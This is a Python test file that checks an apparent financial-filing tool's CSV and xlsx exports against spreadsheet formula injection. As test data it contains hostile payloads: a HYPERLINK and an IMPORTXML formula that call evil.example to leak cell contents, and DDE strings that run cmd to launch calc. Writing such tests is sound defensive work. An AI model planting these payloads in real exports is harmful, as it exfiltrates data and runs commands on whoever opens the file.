"""Formula injection in exports (issue #28, item 5): a label or role URI beginning with =, +, -, @ must never
become a live formula in a CSV opened by a spreadsheet or in an xlsx; numbers stay numbers.

The hostile text comes in the way an attacker would bring it: a filing whose own labels and role URI carry it,
through the real `auditgraph ingest filing`, `statement` and `check` commands."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from tests.faults.conftest import BASE_FOLDER, copy_filing, run_cli_here

ACC = "INJECT-NFLX-10Q-2010"
HOSTILE_LABELS = {  # the filing's own label -> what it becomes
    "Current content library, net": '=HYPERLINK("http://evil.example/?leak="&B3,"Click")',
    "Content library, net": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Acquisition of streaming content library": "+1+2",
    "Amortization of content library": "-2+3",
    "Acquisition of DVD content library": '=IMPORTXML("http://evil.example/","//a")',  # (labels are space-normalised)
}
HOSTILE_ROLE = "=2+5*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _xml_text(s: str) -> str:
    return (
        s.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&apos;").replace("<", "&lt;").replace("\t", "&#9;")
    )


@pytest.fixture(scope="module")
def hostile(fault_settings, fault_store, base_filing, tmp_path_factory):
    folder = copy_filing(BASE_FOLDER, tmp_path_factory.mktemp("inject") / BASE_FOLDER)
    lab = folder / "nflx-20100930_lab.xml"
    text = lab.read_text(encoding="utf-8")
    for plain, evil in HOSTILE_LABELS.items():
        text, n = re.subn(f'(xml:lang="en-US">){re.escape(plain)}<', lambda m: m.group(1) + _xml_text(evil) + "<", text)
        assert n >= 1, plain
    lab.write_text(text, encoding="utf-8")
    for p in folder.iterdir():  # the income statement's role URI, everywhere it is named
        body = p.read_text(encoding="utf-8")
        p.write_text(
            body.replace('http://www.netflix.com/taxonomy/role/StatementOfIncome"', _xml_text(HOSTILE_ROLE) + '"'),
            encoding="utf-8",
        )
    instance = folder / "nflx-20100930.xml"  # a negative revenue: a calculation finding to export
    body = instance.read_text(encoding="utf-8")
    instance.write_text(re.sub(r"(<us-gaap:Revenues [^>]*>)423120000<", r"\g<1>-423120000<", body), encoding="utf-8")
    r = run_cli_here(fault_settings, ["ingest", "filing", str(folder), "--accession", ACC, "--cik", base_filing.cik])
    assert r.code == 0, r.stderr
    return folder


def _assert_inert_csv(text: str, expect: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    for c in cells:
        if c and c[0] in TRIGGERS:
            assert NUMBER.match(c), f"a live formula in a CSV cell: {c!r}"
    for e in expect:  # the hostile text is still there, shown as text
        assert "'" + e in cells, (e, [c for c in cells if e.strip()[:4] in c])


def test_statement_csv_cells_never_start_a_formula_and_numbers_stay_numbers(fault_settings, hostile):
    every: list[str] = []
    for kind, labels in (
        ("balance", ("Current content library, net", "Content library, net")),
        (
            "cashflow",
            (
                "Acquisition of streaming content library",
                "Amortization of content library",
                "Acquisition of DVD content library",
            ),
        ),
    ):
        r = run_cli_here(fault_settings, ["statement", ACC, kind, "--format", "csv"])
        assert r.code == 0, r.stderr
        _assert_inert_csv(r.stdout, [HOSTILE_LABELS[k] for k in labels])
        rows = list(csv.DictReader(io.StringIO(r.stdout)))
        values = [v for row in rows for k, v in row.items() if k and k[0].isdigit() and not k.endswith("key") and v]
        assert values and all(NUMBER.match(v) for v in values), values[:5]  # plain numbers, no quote added
        every.extend(values)
    assert any(v.startswith("-") for v in every)  # negative amounts among them, still plain numbers


def test_findings_csv_cells_never_start_a_formula(fault_settings, hostile):
    r = run_cli_here(fault_settings, ["check", ACC, "--format", "csv"])
    assert r.code == 1, r.stderr  # findings
    _assert_inert_csv(r.stdout, [HOSTILE_ROLE])
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    amounts = [row[k] for row in rows for k in ("reported", "expected", "difference", "decimals")]
    assert amounts and all(NUMBER.match(v) for v in amounts), amounts  # numbers as they are (decimals "-3" too)


def _sheet(path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _assert_inert_xlsx(path, expect: list[str]) -> None:
    from openpyxl import load_workbook

    xml = _sheet(path)
    assert "<f>" not in xml and "<f " not in xml, "a live formula in the xlsx"
    ws = load_workbook(path).active
    seen = {}
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in TRIGGERS and not NUMBER.match(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value, cell.data_type)
                seen[cell.value] = cell
    for e in expect:
        assert e in seen, (e, sorted(seen))


def test_statement_xlsx_has_no_formula_and_shows_the_hostile_label_as_text(fault_settings, hostile, tmp_path):
    out = tmp_path / "bs.xlsx"
    r = run_cli_here(fault_settings, ["statement", ACC, "balance", "--format", "xlsx", "--out", str(out)])
    assert r.code == 0, r.stderr
    _assert_inert_xlsx(out, [HOSTILE_LABELS["Current content library, net"], HOSTILE_LABELS["Content library, net"]])
    from openpyxl import load_workbook

    from auditgraph.reports.statement_render import XLSX_HEADER_ROWS

    ws = load_workbook(out).active
    # the lines start below the title, company, units and column headings; columns: label, periods, concept, member
    numbers = [c.value for row in ws.iter_rows(min_row=XLSX_HEADER_ROWS + 1) for c in row[1:-2] if c.value is not None]
    assert numbers and all(isinstance(v, (int, float)) for v in numbers)


def test_findings_xlsx_has_no_formula(fault_settings, hostile, tmp_path):
    out = tmp_path / "findings.xlsx"
    r = run_cli_here(fault_settings, ["check", ACC, "--format", "xlsx", "--out", str(out)])
    assert r.code == 1, r.stderr
    _assert_inert_xlsx(out, [HOSTILE_ROLE])
